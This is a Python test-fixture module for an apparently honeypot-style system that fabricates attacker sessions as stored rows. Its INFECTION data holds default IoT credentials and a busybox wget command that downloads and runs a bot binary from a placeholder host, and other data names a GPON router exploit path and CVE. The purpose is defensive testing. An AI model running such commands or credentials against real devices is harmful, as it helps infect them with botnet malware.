"""Sessions as outputs tell them, for tests: from stated facts, through the store's own rows."""

from __future__ import annotations

import hashlib
import itertools
from collections.abc import Mapping, Sequence
from typing import Any

from eudaemon.events import Endpoint, Event, Fact, IdSource, fields_of
from eudaemon.events import catalogue as facts
from eudaemon.farm.geo import Place
from eudaemon.farm.outputs.batch import Batch
from eudaemon.farm.store import Row, row_of
from eudaemon.farm.store.schema import COLUMNS

NOW_S = 1_795_487_000.0
ELF = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\0\x28\0" + bytes(60)
ELF_SHA256 = hashlib.sha256(ELF).hexdigest()
URL = "http://files.example/bins/bot.arm7"
ATTACKER = "192.31.196.9"  # public, and no host's: AS112 (RFC 7535)
_NUMBERS = itertools.count()
IDS = IdSource(lambda n: hashlib.sha256(b"%d" % next(_NUMBERS)).digest()[:n])


class Told:
    """A source, and the batch of all that was added to it."""

    def __init__(self) -> None:
        self.rows: list[Row] = []
        self.samples = {ELF_SHA256: ELF}
        self.keys: set[str] = set()

    def session(
        self, *said: Fact, room: str = "telnet", transport: str = "tcp", ip: str = ATTACKER, port: int = 23,
        at_s: float = NOW_S, at_first: str = "",
    ) -> str:  # fmt: skip
        """Add a session that lasts 2 s; return its id. `at_first` is what its port is, if not the room's own."""
        session = IDS.new(at_s)
        whole = (
            facts.SessionOpened(transport, at_first or room),
            *said,
            facts.SessionClosed(room, "peer", 2.0, 80, 120),
        )
        local = "2001:db8::1" if ":" in ip else "192.0.2.1"
        for number, fact in enumerate(whole):
            moment_s = at_s + 2 * number / (len(whole) - 1)
            event = Event(IDS.new(moment_s), moment_s, "lab", fact, session, Endpoint(ip, 40226), Endpoint(local, port))
            self.rows.append(row_of(event, NOW_S, Place("NL", 64496, "Voorbeeld")))
        return session

    def batch(self) -> Batch:
        return Batch.of_lines([row.line() for row in self.rows], self)

    def sessions(self, ids: Sequence[str]) -> list[Mapping[str, Any]]:
        names = [name for name, _ in COLUMNS[:-1]]
        return [dict(zip(names, row.values, strict=True)) for row in self.rows if row.values[4] in ids]

    def sample(self, sha256: str, bytes_max: int) -> bytes | None:
        return self.samples.get(sha256)

    def was_told(self, key: str, within_s: float = 0.0) -> bool:
        return key in self.keys


INFECTION = (
    facts.LoginTried("root", "1234", accepted=False),
    facts.LoginTried("root", "xc3511", accepted=True),
    facts.CommandEntered("enable", ("enable",)),
    facts.CommandEntered(f"/bin/busybox wget {URL} -O - > dvr; ./dvr"),
    facts.DownloadWished(URL, "wget"),
    facts.DownloadFinished(URL, "ok", sha256=ELF_SHA256, size=len(ELF), peer="203.0.113.80"),
    facts.ArtefactKept(ELF_SHA256, len(ELF), "download", "bot.arm7", URL),
)
EXPLOIT = (
    facts.RequestReceived("POST", "/GponForm/diag_Form?images/", "192.0.2.1", "Hello, World", 120),
    facts.ExploitRecognised("Dasan GPON diag_Form", "CVE-2018-10561", "wget x"),
)
SSH = (
    facts.SshClientIdentified(
        "SSH-2.0-libssh-0.9.6", "ec7378c1a92f5a8dde7e8b7a1ddf33d1", "curve25519;aes;mac;none", "ed"
    ),
    facts.PublicKeyOffered("root", "ssh-ed25519", "SHA256:abc", "AAAA"),
    facts.ForwardingAsked("direct-tcpip", "198.51.100.9", 25),
    facts.LoginTried("root", "root", accepted=True),
)
# Values that must have a form of their own; every other text is a mark that can be found again.
FORMS = {
    "interface": "367abb81-9844-35f1-ad32-98f038001003 2.0", "head": "6d61726b", "size": "1024x768",
    "scheme": "sip", "origin": "upload", "sha256": "ab" * 32, "sender": "mark@zq.example",
    "reference": "CVE-2026-4711", "outcome": "ok", "action": "read", "recipients": ("mark@zq.example",),
}  # fmt: skip
TYPES = {"str": "mark{}zq", "str | None": "mark{}zq", "int": 4711, "float": 4.25, "bool": False,
         "tuple[str, ...]": ("mark{}zq",)}  # fmt: skip


def made(kind: type[Fact]) -> Fact:
    """Return a fact of a kind whose texts can be found again."""
    values: dict[str, Any] = {}
    for field in fields_of(kind):
        value = FORMS.get(field.name, TYPES[str(field.type)])
        value = value if isinstance(value, type(TYPES[str(field.type)])) else TYPES[str(field.type)]
        if isinstance(value, str):
            value = value.replace("{}", field.name)
        values[field.name] = value
    return kind(**values)
